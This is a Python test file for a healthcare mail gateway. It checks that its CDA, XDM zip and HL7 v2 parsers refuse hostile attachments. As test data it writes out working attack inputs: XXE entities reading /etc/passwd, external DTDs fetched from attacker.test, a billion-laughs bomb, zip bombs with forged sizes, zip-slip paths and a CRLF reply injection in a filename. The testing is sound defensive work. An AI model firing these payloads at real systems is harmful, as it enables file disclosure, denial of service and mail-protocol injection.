"""Hostile documents: each refused quickly with a clear reason, nothing read or fetched.

The timeout marks bound each attack (a parser that expanded a bomb would hit them); no
test asserts on time.
"""

from __future__ import annotations

import base64
import email
import email.policy
import io
import zipfile
from pathlib import Path

import pytest

from gateway.attachments import cda, hl7v2, xdm
from gateway.attachments.errors import CdaError, Hl7Error, XdmError
from gateway.attachments.hl7v2_grammar import Hl7Limits
from gateway.attachments.xml_reader import XmlLimits
from gateway.attachments.zip_reader import ZipLimits
from gateway.documents import DocumentError, DocumentLimits, inspect
from gateway.packaging import HEADER_PATIENT_ID, package
from tests.unit.documents.builders import (
    NOW,
    mail,
    oru,
    raw_zip,
    xdm_entries,
)
from tests.unit.documents.builders import (
    cda as build_cda,
)
from tests.unit.documents.builders import (
    xdm as build_xdm,
)

pytestmark = pytest.mark.timeout(30)
XML = XmlLimits()
DOCTYPE_REFUSAL = "XML with a DOCTYPE is refused"


def _lol(depth: int = 10) -> bytes:
    entities = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, depth)
    )
    return f'<?xml version="1.0"?><!DOCTYPE ClinicalDocument [{entities}]><ClinicalDocument xmlns="urn:hl7-org:v3">&lol{depth - 1};</ClinicalDocument>'.encode()


@pytest.mark.parametrize(
    "payload",
    [
        pytest.param(
            b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><ClinicalDocument xmlns="urn:hl7-org:v3">&x;</ClinicalDocument>',
            id="xxe-file",
        ),
        pytest.param(
            b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.test/x.dtd"> %p;]><r/>',
            id="parameter-entity",
        ),
        pytest.param(
            b'<?xml version="1.0"?><!DOCTYPE ClinicalDocument SYSTEM "http://attacker.test/cda.dtd"><ClinicalDocument/>',
            id="external-dtd",
        ),
        pytest.param(_lol(), id="billion-laughs"),
        pytest.param(
            '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>'.encode(
                "utf-16"
            ),
            id="utf16-xxe",
        ),
    ],
)
def test_xml_with_a_doctype_is_refused_before_anything_resolves(
    payload: bytes, tmp_path: Path
) -> None:
    with pytest.raises(CdaError, match=DOCTYPE_REFUSAL):
        cda.read(payload, XML)


def test_xxe_in_metadata_xml_is_refused() -> None:
    metadata = b'<!DOCTYPE m [<!ENTITY x SYSTEM "file:///etc/passwd">]><SubmitObjectsRequest>&x;</SubmitObjectsRequest>'
    with pytest.raises(XdmError, match=f"METADATA.XML: {DOCTYPE_REFUSAL}"):
        xdm.read(raw_zip(xdm_entries(metadata)), xdm.XdmLimits())


def test_undeclared_entity_does_not_read_files() -> None:
    with pytest.raises(CdaError, match="not well-formed"):
        cda.read(b'<ClinicalDocument xmlns="urn:hl7-org:v3">&passwd;</ClinicalDocument>', XML)


def test_deep_nesting_is_refused() -> None:
    deep = b"<a>" * 5000 + b"</a>" * 5000
    with pytest.raises(CdaError, match="Excessive depth"):
        cda.read(deep, XML)


# --- zip bombs and hostile archives -------------------------------------------------------


def _bomb_entries(size: int) -> list[tuple[str, bytes]]:
    return [*xdm_entries(b"<x/>"), ("IHE_XDM/SUBSET01/BOMB.XML", b"\0" * size)]


def test_compression_ratio_bomb_is_refused() -> None:
    data = raw_zip(_bomb_entries(20 * 1024 * 1024))  # 20 MiB of zeros: ~1000:1
    assert len(data) < 100_000
    with pytest.raises(XdmError, match="expands more than 100 times its compressed size"):
        xdm.read(data, xdm.XdmLimits())


def test_total_real_bytes_are_capped() -> None:
    # Incompressible entries: each under the ratio, together over the total cap.
    import os  # noqa: PLC0415

    entries = [(f"IHE_XDM/SUBSET01/D{i}.BIN", os.urandom(300_000)) for i in range(4)]
    limits = xdm.XdmLimits(zip=ZipLimits(max_total_bytes=1_000_000))
    with pytest.raises(XdmError, match="more than 1000000 bytes in total"):
        xdm.read(raw_zip(entries), limits)


def test_declared_sizes_are_not_trusted() -> None:
    """An entry whose header claims 10 bytes but inflates to 5 MiB: the real bytes count."""
    data = bytearray(raw_zip(_bomb_entries(5 * 1024 * 1024)))
    # Patch the declared uncompressed size (central directory and local header) of the bomb.
    name = b"IHE_XDM/SUBSET01/BOMB.XML"
    for signature, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        at = data.find(signature)
        while at >= 0:
            name_at = at + (46 if signature == b"PK\x01\x02" else 30)
            if data[name_at : name_at + len(name)] == name:
                data[at + offset : at + offset + 4] = (10).to_bytes(4, "little")
            at = data.find(signature, at + 4)
    with pytest.raises(XdmError, match=r"cannot be read|expands"):
        xdm.read(bytes(data), xdm.XdmLimits())


def test_entry_count_is_capped_before_zipfile_indexes_it() -> None:
    data = raw_zip([(f"f{i}.txt", b"") for i in range(2000)], compression=zipfile.ZIP_STORED)
    with pytest.raises(XdmError, match="more than 1000 entries"):
        xdm.read(data, xdm.XdmLimits())


def test_nested_zip_is_refused() -> None:
    inner = raw_zip([("a.txt", b"a")])
    with pytest.raises(XdmError, match="is itself an archive"):
        xdm.read(
            raw_zip([*xdm_entries(b"<x/>"), ("IHE_XDM/SUBSET01/INNER.ZIP", inner)]), xdm.XdmLimits()
        )


@pytest.mark.parametrize(
    "name",
    ["../../etc/passwd", "/etc/passwd", "IHE_XDM\\..\\x", "C:/x", "a/./b", "a//b", "x\x01.xml"],
)
def test_zip_slip_names_are_refused(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    with pytest.raises(XdmError, match="is not a safe relative name"):
        xdm.read(raw_zip([*xdm_entries(b"<x/>"), (name, b"x")]), xdm.XdmLimits())
    assert list(tmp_path.iterdir()) == []  # nothing was written anywhere


def test_duplicate_metadata_is_refused() -> None:
    entries = [*xdm_entries(b"<a/>"), ("IHE_XDM/SUBSET01/METADATA.XML", b"<b/>")]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive, pytest.warns(UserWarning, match="Duplicate name"):
        for entry_name, content in entries:
            archive.writestr(entry_name, content)
    with pytest.raises(XdmError, match=r"duplicate zip entry 'IHE_XDM/SUBSET01/METADATA.XML'"):
        xdm.read(buffer.getvalue(), xdm.XdmLimits())


def test_case_variant_duplicate_is_refused() -> None:
    entries = [*xdm_entries(b"<a/>"), ("ihe_xdm/subset01/metadata.xml", b"<b/>")]
    with pytest.raises(XdmError, match="duplicate zip entry"):
        xdm.read(raw_zip(entries), xdm.XdmLimits())


def test_encrypted_entry_is_refused() -> None:
    data = bytearray(raw_zip(xdm_entries(b"<x/>"), compression=zipfile.ZIP_STORED))
    at = data.find(b"PK\x01\x02")
    data[at + 8] |= 0x1  # general purpose flag: encrypted
    with pytest.raises(XdmError, match="encrypted"):
        xdm.read(bytes(data), xdm.XdmLimits())


@pytest.mark.parametrize(
    ("content", "declared", "filename", "fault"),
    [
        (build_xdm(), "text/xml", "result.xml", "a zip archive declared as XML"),
        (build_cda(), "application/zip", "IHE_XDM.ZIP", "XML declared as a zip archive"),
        (oru(), "application/zip", "lab.zip", "an HL7 v2 message declared as a zip archive"),
    ],
    ids=["zip-as-xml", "xml-as-zip", "hl7-as-zip"],
)
def test_wrong_declared_types_are_refused_at_smtp_time(
    content: bytes, declared: str, filename: str, fault: str
) -> None:
    with pytest.raises(DocumentError) as caught:
        inspect(mail((content, declared, filename)), DocumentLimits())
    assert caught.value.reply() == f"550 5.6.0 {filename}: {fault}"


# --- HL7 v2 -----------------------------------------------------------------------------------


def test_hl7_redefining_its_delimiters_midway_is_refused() -> None:
    data = oru() + b"MSH#*@!%#LIS#LAB#####ORU*R01#2#P#2.5\rPID###X\r"
    with pytest.raises(Hl7Error, match="a second MSH redefines the delimiters"):
        hl7v2.read(data, Hl7Limits())


def test_a_million_repetitions_are_refused_before_splitting() -> None:
    data = oru(extra_segments=["NTE|1||" + "~" * 1_000_000])
    with pytest.raises(Hl7Error, match="NTE-3: more than 1000 repetitions"):
        hl7v2.read(data, Hl7Limits())


@pytest.mark.parametrize(
    ("extra", "fault"),
    [
        ("NTE|1||" + "^" * 200, "more than 100 components"),
        ("NTE|1||" + "&" * 200, "more than 100 subcomponents"),
        ("NTE" + "|" * 400, "more than 300 fields"),
    ],
)
def test_other_hl7_counts_are_capped(extra: str, fault: str) -> None:
    with pytest.raises(Hl7Error, match=fault):
        hl7v2.read(oru(extra_segments=[extra]), Hl7Limits())


def test_segment_count_is_capped() -> None:
    data = oru(extra_segments=["NTE|1||x"] * 20_000)
    with pytest.raises(Hl7Error, match="more than 10000 segments"):
        hl7v2.read(data, Hl7Limits())


def test_mixed_terminators_are_refused_at_smtp_time() -> None:
    data = oru().replace(b"\rORC", b"\r\nORC")
    with pytest.raises(DocumentError) as caught:
        inspect(mail((data, "application/hl7-v2", "lab.hl7")), DocumentLimits())
    assert caught.value.reply() == "550 5.6.0 lab.hl7: mixed segment terminators (CR and CRLF)"


def test_embedded_xxe_inside_hl7_is_refused() -> None:
    payload = b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><ClinicalDocument xmlns="urn:hl7-org:v3">&x;</ClinicalDocument>'
    with pytest.raises(DocumentError, match=f"OBX 1 embedded CDA: {DOCTYPE_REFUSAL}"):
        inspect(mail((oru(embedded=payload), "application/hl7-v2", "lab.hl7")), DocumentLimits())


def test_reply_injection_through_the_filename_is_neutralised() -> None:
    body = base64.b64encode(oru(obr16="")).decode()
    raw = (
        "From: lis@lab.salus.test\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\n'
        "Content-Type: application/hl7-v2\r\nContent-Transfer-Encoding: base64\r\n"
        "Content-Disposition: attachment; filename*=utf-8''x.hl7%0D%0A250%202.0.0%20Ok\r\n\r\n"
        f"{body}\r\n--b--\r\n"
    ).encode()
    message = email.message_from_bytes(raw, policy=email.policy.default)
    with pytest.raises(DocumentError) as caught:
        inspect(message, DocumentLimits())
    reply = caught.value.reply()
    assert reply.startswith("550 5.6.0 x.hl7??250 2.0.0 Ok: OBR-16")
    assert "\r" not in reply and "\n" not in reply


def test_patient_id_never_reaches_headers() -> None:
    message = mail((build_cda(), "text/xml", "r.xml"))
    message[HEADER_PATIENT_ID] = "299999999999999"
    out = package(message, inspect(message, DocumentLimits()), domain="salus.test", now=NOW)
    headers = out.split(b"\r\n\r\n", 1)[0]
    assert b"299999999999999" not in headers
